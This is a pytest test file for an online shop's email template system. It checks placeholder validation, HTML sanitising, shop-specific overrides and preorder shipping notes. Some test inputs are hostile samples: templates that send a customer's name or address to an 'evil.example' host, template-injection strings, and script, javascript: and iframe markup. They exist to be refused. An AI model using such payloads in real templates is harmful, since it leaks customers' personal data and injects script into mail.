"""Letters that shops write: placeholders that exist, no code, nothing personal in an address."""

from uuid import uuid4

import pytest

from lockstitch.kernel.errors import Refused
from lockstitch.mailing.actions import drop_template, keep_template
from lockstitch.mailing.facts import plain
from lockstitch.mailing.models import Template
from lockstitch.mailing.queries import preview, render
from lockstitch.mailing.rules import LETTERS, SAMPLES, Unfit, Written, check, clean, fill
from lockstitch.orders.models import Order
from lockstitch.tenancy.queries import Site
from tests import world

GOOD = Written(
    "{{ shop.name }}: {{ order.number }}",
    "{{ name }} 様\n{% for line in lines %}{{ line.name }} × {{ line.quantity }}\n{% endfor %}"
    "{% if order.fee %}手数料 {{ order.fee }}{% endif %}\n{{ order.link }}",
    '<p>{{ name }} 様</p>{% for line in lines %}<p class="quiet">{{ line.name }}</p>{% endfor %}'
    '<a href="{{ order.link }}">ご注文</a>',
)


def test_a_letter_is_filled_in_and_the_person_left_to_the_guard() -> None:
    check(GOOD, "placed")
    done = fill(GOOD, {**SAMPLES["placed"], "lines": [{"name": "<b>&", "quantity": "1"}]})
    assert done.subject == "Lockstitch: 261125-ABC234"
    assert done.text.startswith("{{name}} 様\n<b>& × 1")
    assert "<p>{{name}} 様</p>" in done.html
    assert "&lt;b&gt;&amp;" in done.html


@pytest.mark.parametrize(
    "source",
    [
        "{{ email }}", "{{ order.record_id }}", "{{ order.number.__class__ }}", "{{ lines.x }}",
        "{% include 'x' %}", "{% assign a = 1 %}", "{% capture a %}{% endcapture %}", "{% if %}",
        "{{ name | base64_encode }}", "{{ name", "{% load i18n %}", "{{ name|safe }}",
        "{% for l in lines %}{{ l.secret }}{% endfor %}",
        "{% for i in (1..100000) %}x{% endfor %}", "https://evil.example/?{{ name }}",
        "https://evil.example/{{ order.number }}-{{ address }}", "",
    ],
)  # fmt: skip
def test_what_is_no_letter_is_refused(source: str) -> None:
    with pytest.raises(Unfit, match=r"\w"):
        check(Written("Subject", source), "placed")


@pytest.mark.parametrize(
    "html",
    [
        '<a href="https://evil.example/?{{ name }}">x</a>',
        '<img src="https://evil.example/{{ address }}.gif">',
    ],
)
def test_nothing_personal_in_an_address_of_the_html(html: str) -> None:
    with pytest.raises(Unfit):
        check(Written("Subject", "text", html), "placed")
    assert "evil" not in fill(Written("s", "t", html), SAMPLES["placed"]).html


def test_html_is_what_a_letter_needs() -> None:
    dirty = (
        '<script>x</script><p style="position:fixed" onclick="x" class="box evil">ok</p>'
        '<a href="javascript:x">a</a><iframe src="https://x.example"></iframe><form></form>'
    )
    assert clean(dirty) == '<p class="box">ok</p><a rel="noopener noreferrer">a</a>'


@pytest.mark.parametrize("name", LETTERS)
def test_every_letter_has_a_sample(name: str) -> None:
    check(Written("{{ shop.name }}", "{{ name }}", "<p>{{ shop.name }}</p>"), name)
    shown = preview(
        Written("{{ shop.name }}", "x", "<p>{{ shop.name }}</p>"), name, language="ja", shop="Hem"
    )
    assert (shown.subject, "<p>Hem</p>" in shown.html) == ("Hem", True)


def test_a_shops_own_words_take_the_place_of_the_built_in_ones(site: Site) -> None:
    order = world.placed_order({world.new_product()[0]: 2})
    facts = {
        "order": order, "site": site, "lines": order.current_lines, "slot": "",
        "address_of_order": "https://x.example/",
    }  # fmt: skip
    built_in = render("cancelled", language="ja", **facts)
    keep_template("cancelled", "ja", GOOD, by=uuid4())
    own = render("cancelled", language="ja", **facts)
    assert own.subject == f"{site.name}: {order.number}"
    assert "シャツ × 2" in own.text
    assert "手数料 ¥" in own.text
    assert render("cancelled", language="en", **facts).subject != own.subject
    Template.objects.update(text="{{ broken")  # kept before a placeholder went out of use
    assert render("cancelled", language="ja", **facts) == built_in
    drop_template("cancelled", "ja")
    assert render("cancelled", language="ja", **facts) == built_in
    with pytest.raises(Refused, match="no such placeholder"):
        keep_template("cancelled", "ja", Written("s", "{{ secret }}"), by=uuid4())
    with pytest.raises(Refused):
        keep_template("other", "ja", GOOD, by=uuid4())


def test_a_letter_says_when_what_is_sold_ahead_is_sent(site: Site) -> None:
    order = world.placed_order({world.new_product()[0]: 2})
    order.lines.update(preorder_month="2027-03-E")
    order = Order.objects.get(pk=order.pk)
    facts = {"order": order, "site": site, "lines": order.told_lines, "goods": order.goods}
    letter = render("placed", language="en", **facts)
    assert "To be sent: early March 2027" in letter.text
    assert "To be sent: early March 2027" in letter.html
    assert "put aside" not in letter.text + letter.html
    assert plain(facts, "ja")["lines"][0]["size"].endswith("(2027-03-上旬発送予定)")
    order.lines.update(shipped=2)
    assert "To be sent" not in render("shipped", language="en", **{
        **facts, "goods": Order.objects.get(pk=order.pk).goods,
    }).text  # fmt: skip


def test_the_facts_have_the_form_of_the_samples(site: Site) -> None:
    order = world.placed_order({world.new_product()[0]: 1})
    found = plain({"order": order, "site": site, "lines": order.current_lines}, "ja")
    for name in ("placed", "shipped"):
        for part, sample in SAMPLES[name].items():
            if isinstance(sample, dict):
                assert set(sample) == set(found[part]), part
    assert set(found["lines"][0]) == set(SAMPLES["placed"]["lines"][0])
